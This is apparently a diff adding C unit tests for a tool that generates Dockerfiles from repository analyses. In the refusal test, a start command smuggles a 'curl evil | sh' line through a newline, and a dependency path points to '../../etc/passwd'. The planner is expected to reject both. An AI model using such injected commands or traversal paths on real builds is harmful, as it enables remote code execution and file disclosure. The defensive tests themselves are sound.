@@ -1,0 +1,386 @@
+/* The generated-Dockerfile planner and the analysis JSON helpers: analyses
+ * are built by hand here, so these tests do not depend on the detector. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+#include "ad/analysis.h"
+#include "ad/buildplan.h"
+#include "ad/cleanup.h"
+
+static char **strv(const char *const *v, size_t *n)
+{
+        char **out;
+
+        for (*n = 0; v && v[*n]; (*n)++)
+                ;
+        out = calloc(*n + 1, sizeof(*out));
+        assert_non_null(out);
+        for (size_t i = 0; i < *n; i++)
+                out[i] = strdup(v[i]);
+        return out;
+}
+
+/* An analysis as the detector would hand it out: no NULL strings. */
+static struct ad_analysis *analysis(const char *language, const char *install, const char *build,
+                                    const char *start, unsigned port, const char *const *deps)
+{
+        struct ad_analysis *a = calloc(1, sizeof(*a));
+
+        assert_non_null(a);
+        a->language = strdup(language);
+        a->framework = strdup("");
+        a->version = strdup("");
+        a->package_manager = strdup(strcmp(language, "node") == 0 ? "npm" : "");
+        a->install_command = strdup(install);
+        a->build_command = strdup(build);
+        a->start_command = strdup(start);
+        a->go_main_package = strdup("");
+        a->static_root = strdup("");
+        a->dockerfile_path = strdup("");
+        a->port = port;
+        a->dependency_files = strv(deps, &a->n_dependency_files);
+        a->cpu_millis = 500;
+        a->memory_mb = 512;
+        a->why = json_object();
+        return a;
+}
+
+static void replace(char **field, const char *value)
+{
+        free(*field);
+        *field = strdup(value);
+}
+
+static char *plan(const struct ad_analysis *a, bool extra_ca)
+{
+        struct ad_buildplan_images images;
+        ad_error_t err = NULL;
+        char *out = NULL;
+
+        ad_buildplan_images_default(&images);
+        images.extra_ca = extra_ca;
+        if (ad_buildplan_dockerfile(&out, a, &images, &err) < 0)
+                fail_msg("ad_buildplan_dockerfile: %s", ad_error_message(err));
+        return out;
+}
+
+static int plan_fails(const struct ad_analysis *a, const char *msg_part)
+{
+        struct ad_buildplan_images images;
+        ad_error_t err = NULL;
+        char *out = NULL;
+        int r;
+
+        ad_buildplan_images_default(&images);
+        r = ad_buildplan_dockerfile(&out, a, &images, &err);
+        assert_true(r < 0);
+        assert_null(out);
+        if (strstr(ad_error_message(err), msg_part) == NULL)
+                fail_msg("`%s` does not contain `%s`", ad_error_message(err), msg_part);
+        ad_error_release(&err);
+        return -r;
+}
+
+/* `line` occurs as a whole line; returns its offset for ordering checks. */
+static size_t line_at(const char *text, const char *line)
+{
+        size_t n = strlen(line);
+
+        for (const char *p = text; (p = strstr(p, line)) != NULL; p++)
+                if ((p == text || p[-1] == '\n') && (p[n] == '\n' || p[n] == '\0'))
+                        return (size_t)(p - text);
+        fail_msg("no line `%s` in:\n%s", line, text);
+        return 0;
+}
+
+static bool has_line(const char *text, const char *line)
+{
+        size_t n = strlen(line);
+
+        for (const char *p = text; (p = strstr(p, line)) != NULL; p++)
+                if ((p == text || p[-1] == '\n') && (p[n] == '\n' || p[n] == '\0'))
+                        return true;
+        return false;
+}
+
+static const char *const node_deps[] = { "package.json", "package-lock.json", NULL };
+
+static void test_images_default(void **state)
+{
+        struct ad_buildplan_images images;
+
+        (void)state;
+        ad_buildplan_images_default(&images);
+        assert_string_equal(images.node, "localhost/app-deployer/node:bookworm");
+        assert_string_equal(images.python, "localhost/app-deployer/python:bookworm");
+        assert_string_equal(images.go, "localhost/app-deployer/go:bookworm");
+        assert_string_equal(images.static_site, "localhost/app-deployer/static:bookworm");
+        assert_string_equal(images.php, "localhost/app-deployer/php:bookworm");
+        assert_string_equal(images.base, "localhost/app-deployer/base:bookworm");
+        assert_false(images.extra_ca);
+        assert_string_equal(ad_buildplan_image(&images, "go"), images.base);
+        assert_null(ad_buildplan_image(&images, "dockerfile"));
+}
+
+/* The whole file once, so a change to the plan is a visible diff here. */
+static void test_node_golden(void **state)
+{
+        cleanup_analysis struct ad_analysis *a =
+                analysis("node", "npm ci --omit=dev", "", "npm start", 3000, node_deps);
+        cleanup_free char *df = NULL;
+
+        (void)state;
+        replace(&a->framework, "express");
+        df = plan(a, false);
+        assert_string_equal(df, "# Generated by app-deployer from the repository analysis (node, "
+                                "express).\n"
+                                "FROM localhost/app-deployer/node:bookworm\n"
+                                "USER root\n"
+                                "WORKDIR /app\n"
+                                "COPY package.json package-lock.json ./\n"
+                                "RUN npm ci --omit=dev\n"
+                                "COPY . .\n"
+                                "ENV NODE_ENV=production PORT=3000\n"
+                                "EXPOSE 3000\n"
+                                "# Never run the app as root: 10001 is the images' `app` user.\n"
+                                "USER 10001\n"
+                                "CMD [\"sh\",\"-c\",\"exec npm start\"]\n");
+}
+
+static void test_node_extra_ca_and_build(void **state)
+{
+        cleanup_analysis struct ad_analysis *a =
+                analysis("node", "npm ci", "npm run build", "npm start", 3000, node_deps);
+        cleanup_free char *df = NULL;
+        size_t ca, env, manifests, install, source, build, user;
+
+        (void)state;
+        df = plan(a, true);
+        ca = line_at(df, "COPY .ad-extra-ca.pem /etc/ssl/certs/ad-extra-ca.pem");
+        env = line_at(df, "ENV NODE_EXTRA_CA_CERTS=/etc/ssl/certs/ad-extra-ca.pem");
+        manifests = line_at(df, "COPY package.json package-lock.json ./");
+        install = line_at(df, "RUN npm ci");
+        source = line_at(df, "COPY . .");
+        build = line_at(df, "RUN npm run build");
+        user = line_at(df, "USER 10001");
+        /* CA before the install; manifests, install, source, build, user. */
+        assert_true(ca < env && env < install);
+        assert_true(manifests < install && install < source && source < build && build < user);
+        assert_false(has_line(df, "RUN npm config set cafile"));
+}
+
+static void test_node_yarn_installs_yarn(void **state)
+{
+        static const char *const deps[] = { "package.json", "yarn.lock", NULL };
+        cleanup_analysis struct ad_analysis *a =
+                analysis("node", "yarn install --frozen-lockfile --production", "", "yarn start",
+                         3000, deps);
+        cleanup_free char *df = NULL;
+
+        (void)state;
+        replace(&a->package_manager, "yarn");
+        df = plan(a, false);
+        assert_true(line_at(df, "RUN command -v yarn >/dev/null || npm install -g --no-audit "
+                                "--no-fund yarn") < line_at(df, "COPY package.json yarn.lock ./"));
+}
+
+static void test_python(void **state)
+{
+        static const char *const deps[] = { "requirements.txt", NULL };
+        cleanup_analysis struct ad_analysis *a =
+                analysis("python", "python3 -m pip install -r requirements.txt", "",
+                         "python3 app.py", 8000, deps);
+        cleanup_analysis struct ad_analysis *plain =
+                analysis("python", "", "", "python3 app.py", 8000, NULL);
+        cleanup_free char *df = NULL;
+        cleanup_free char *df_plain = NULL;
+
+        (void)state;
+        df = plan(a, true);
+        assert_true(line_at(df, "COPY requirements.txt ./") <
+                    line_at(df, "RUN python3 -m pip install -r requirements.txt"));
+        assert_true(line_at(df, "ENV PIP_CERT=/etc/ssl/certs/ad-ca-bundle.pem") <
+                    line_at(df, "RUN python3 -m pip install -r requirements.txt"));
+        line_at(df, "FROM localhost/app-deployer/python:bookworm");
+        line_at(df, "ENV PORT=8000");
+        line_at(df, "EXPOSE 8000");
+        line_at(df, "CMD [\"sh\",\"-c\",\"exec python3 app.py\"]");
+
+        /* Standard library only: no pip anywhere, even with an extra CA. */
+        df_plain = plan(plain, true);
+        assert_null(strstr(df_plain, "pip"));
+        assert_null(strstr(df_plain, "ad-extra-ca"));
+}
+
+static void test_go_multi_stage(void **state)
+{
+        static const char *const deps[] = { "go.mod", "go.sum", NULL };
+        cleanup_analysis struct ad_analysis *a = analysis(
+                "go", "go mod download", "go build -o bin/api ./cmd/api", "./bin/api", 8080, deps);
+        cleanup_analysis struct ad_analysis *no_build =
+                analysis("go", "", "", "./bin/app", 8080, NULL);
+        cleanup_free char *df = NULL;
+        cleanup_free char *df2 = NULL;
+        size_t build_stage, final_stage;
+
+        (void)state;
+        replace(&a->go_main_package, "./cmd/api");
+        df = plan(a, false);
+        build_stage = line_at(df, "FROM localhost/app-deployer/go:bookworm AS build");
+        final_stage = line_at(df, "FROM localhost/app-deployer/base:bookworm");
+        assert_true(build_stage < final_stage);
+        assert_non_null(strstr(df, "CGO_ENABLED=0"));
+        assert_true(line_at(df, "COPY go.mod go.sum ./") < line_at(df, "RUN go mod download"));
+        assert_true(line_at(df, "RUN go build -o bin/api ./cmd/api") < final_stage);
+        assert_true(final_stage < line_at(df, "COPY --from=build /app/bin/ /app/bin/"));
+        assert_true(final_stage < line_at(df, "USER 10001"));
+        line_at(df, "CMD [\"sh\",\"-c\",\"exec ./bin/api\"]");
+
+        /* An analysis without a build command still builds into bin/. */
+        df2 = plan(no_build, false);
+        line_at(df2, "RUN go build -o bin/app .");
+}
+
+static void test_static(void **state)
+{
+        cleanup_analysis struct ad_analysis *a = analysis("static", "", "", "", 8080, NULL);
+        cleanup_free char *df = NULL;
+
+        (void)state;
+        replace(&a->static_root, "public");
+        df = plan(a, false);
+        line_at(df, "FROM localhost/app-deployer/static:bookworm");
+        line_at(df, "COPY public/ ./");
+        line_at(df, "USER 10001");
+        /* The static image's own CMD serves /app on $PORT. */
+        assert_null(strstr(df, "CMD"));
+}
+
+static void test_php_and_shell(void **state)
+{
+        cleanup_analysis struct ad_analysis *php =
+                analysis("php", "", "", "php -S 0.0.0.0:$PORT -t .", 8080, NULL);
+        cleanup_analysis struct ad_analysis *shell =
+                analysis("shell", "", "", "./run.sh --port $PORT", 8080, NULL);
+        cleanup_free char *df = NULL;
+        cleanup_free char *df2 = NULL;
+
+        (void)state;
+        df = plan(php, false);
+        line_at(df, "FROM localhost/app-deployer/php:bookworm");
+        line_at(df, "CMD [\"sh\",\"-c\",\"exec php -S 0.0.0.0:$PORT -t .\"]");
+        df2 = plan(shell, false);
+        line_at(df2, "FROM localhost/app-deployer/base:bookworm");
+}
+
+static void test_exec_only_for_simple_commands(void **state)
+{
+        cleanup_analysis struct ad_analysis *a =
+                analysis("node", "", "", "npm run migrate && npm start", 3000, NULL);
+        cleanup_analysis struct ad_analysis *b =
+                analysis("node", "", "", "NODE_OPTIONS=--max-old-space-size=256 node \"a b.js\"",
+                         3000, NULL);
+        cleanup_free char *df = NULL;
+        cleanup_free char *df2 = NULL;
+
+        (void)state;
+        df = plan(a, false);
+        line_at(df, "CMD [\"sh\",\"-c\",\"npm run migrate && npm start\"]");
+        /* An assignment prefix cannot follow exec; quotes are JSON-escaped. */
+        df2 = plan(b, false);
+        line_at(df2, "CMD [\"sh\",\"-c\",\"NODE_OPTIONS=--max-old-space-size=256 node "
+                     "\\\"a b.js\\\"\"]");
+}
+
+static void test_refusals(void **state)
+{
+        cleanup_analysis struct ad_analysis *docker =
+                analysis("dockerfile", "", "", "", 8080, NULL);
+        cleanup_analysis struct ad_analysis *no_start =
+                analysis("node", "npm ci", "", "", 3000, NULL);
+        cleanup_analysis struct ad_analysis *newline =
+                analysis("node", "", "", "node a.js\nRUN curl evil | sh", 3000, NULL);
+        cleanup_analysis struct ad_analysis *bad_port =
+                analysis("node", "", "", "node a.js", 0, NULL);
+        static const char *const escape[] = { "../../etc/passwd", NULL };
+        cleanup_analysis struct ad_analysis *bad_path =
+                analysis("node", "npm ci", "", "npm start", 3000, escape);
+        cleanup_analysis struct ad_analysis *unknown = analysis("cobol", "", "", "run", 80, NULL);
+
+        (void)state;
+        assert_int_equal(plan_fails(docker, "the repository's own Dockerfile is used"),
+                         AD_ERR_INVALID);
+        assert_int_equal(plan_fails(no_start, "no start command"), AD_ERR_INVALID);
+        assert_int_equal(plan_fails(newline, "control character"), AD_ERR_INVALID);
+        assert_int_equal(plan_fails(bad_port, "port 0"), AD_ERR_INVALID);
+        assert_int_equal(plan_fails(bad_path, "leaves the build context"), AD_ERR_INVALID);
+        assert_int_equal(plan_fails(unknown, "no build plan for language `cobol`"),
+                         AD_ERR_UNSUPPORTED);
+}
+
+static void test_quantities(void **state)
+{
+        (void)state;
+        assert_int_equal(ad_analysis_parse_cpu("500m"), 500);
+        assert_int_equal(ad_analysis_parse_cpu("2"), 2000);
+        assert_int_equal(ad_analysis_parse_cpu("1.5"), -1);
+        assert_int_equal(ad_analysis_parse_cpu(""), -1);
+        assert_int_equal(ad_analysis_parse_memory("512Mi"), 512);
+        assert_int_equal(ad_analysis_parse_memory("1Gi"), 1024);
+        assert_int_equal(ad_analysis_parse_memory("512M"), -1);
+        assert_int_equal(ad_analysis_parse_memory(NULL), -1);
+}
+
+static void test_from_json(void **state)
+{
+        struct ad_analysis *a = NULL;
+        ad_error_t err = NULL;
+        json_t *j = json_pack("{s:s, s:i, s:[s], s:{s:s, s:s}}", "language", "go", "port", 8080,
+                              "envVars", "X", "resources", "cpu", "250m", "memory", "128Mi");
+        json_t *bad = json_pack("{s:s}", "port", "80");
+
+        (void)state;
+        assert_int_equal(ad_analysis_from_json(&a, j, &err), 0);
+        assert_string_equal(a->language, "go");
+        assert_string_equal(a->framework, ""); /* missing -> "" */
+        assert_int_equal(a->port, 8080);
+        assert_int_equal(a->n_env_vars, 1);
+        assert_string_equal(a->env_vars[0], "X");
+        assert_int_equal(a->cpu_millis, 250);
+        assert_int_equal(a->memory_mb, 128);
+        ad_analysis_free(a);
+        a = NULL;
+
+        assert_int_equal(ad_analysis_from_json(&a, bad, &err), -AD_ERR_INVALID);
+        assert_null(a);
+        ad_error_release(&err);
+        json_decref(j);
+        json_decref(bad);
+        ad_analysis_free(NULL);
+}
+
+int main(void)
+{
+        const struct CMUnitTest tests[] = {
+                cmocka_unit_test(test_images_default),
+                cmocka_unit_test(test_node_golden),
+                cmocka_unit_test(test_node_extra_ca_and_build),
+                cmocka_unit_test(test_node_yarn_installs_yarn),
+                cmocka_unit_test(test_python),
+                cmocka_unit_test(test_go_multi_stage),
+                cmocka_unit_test(test_static),
+                cmocka_unit_test(test_php_and_shell),
+                cmocka_unit_test(test_exec_only_for_simple_commands),
+                cmocka_unit_test(test_refusals),
+                cmocka_unit_test(test_quantities),
+                cmocka_unit_test(test_from_json),
+        };
+
+        return cmocka_run_group_tests(tests, NULL, NULL);
+}
